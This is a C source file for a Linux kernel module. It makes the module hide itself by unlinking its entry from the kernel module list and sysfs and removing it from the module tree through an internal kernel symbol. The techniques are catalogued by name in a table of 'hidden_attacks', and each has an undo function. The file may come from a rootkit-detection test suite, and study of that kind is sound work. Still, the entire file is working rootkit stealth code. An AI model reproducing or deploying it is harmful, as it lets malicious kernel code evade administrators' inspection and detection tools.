// SPDX-License-Identifier: GPL-2.0
/* This module hides itself. */
#include <linux/kobject.h>
#include <linux/list.h>

#include "attack.h"

static int unlink_entry(struct list_head *entry)
{
	return poke(&entry->prev->next, (unsigned long)entry->next) ?: poke(&entry->next->prev, (unsigned long)entry->prev);
}

static int from_list(void)
{
	return unlink_entry(&THIS_MODULE->list);
}

static int from_sysfs(void)
{
	return unlink_entry(&THIS_MODULE->mkobj.kobj.entry);
}

static bool out_of_tree;

static int from_everywhere(void)
{
	void (*remove)(struct module *) = symbol("mod_tree_remove");

	if (!remove)
		return -ENOENT;
	remove(THIS_MODULE);
	out_of_tree = true;
	return from_list() ?: from_sysfs();
}

static void back_everywhere(void)
{
	void (*insert)(struct module *) = symbol("mod_tree_insert");

	if (insert && out_of_tree)
		insert(THIS_MODULE);
	out_of_tree = false;
}

const struct attack hidden_attacks[] = {
	{ "module-unlink", from_list },
	{ "module-sysfs", from_sysfs },
	{ "module-vanish", from_everywhere, back_everywhere },
	{ },
};
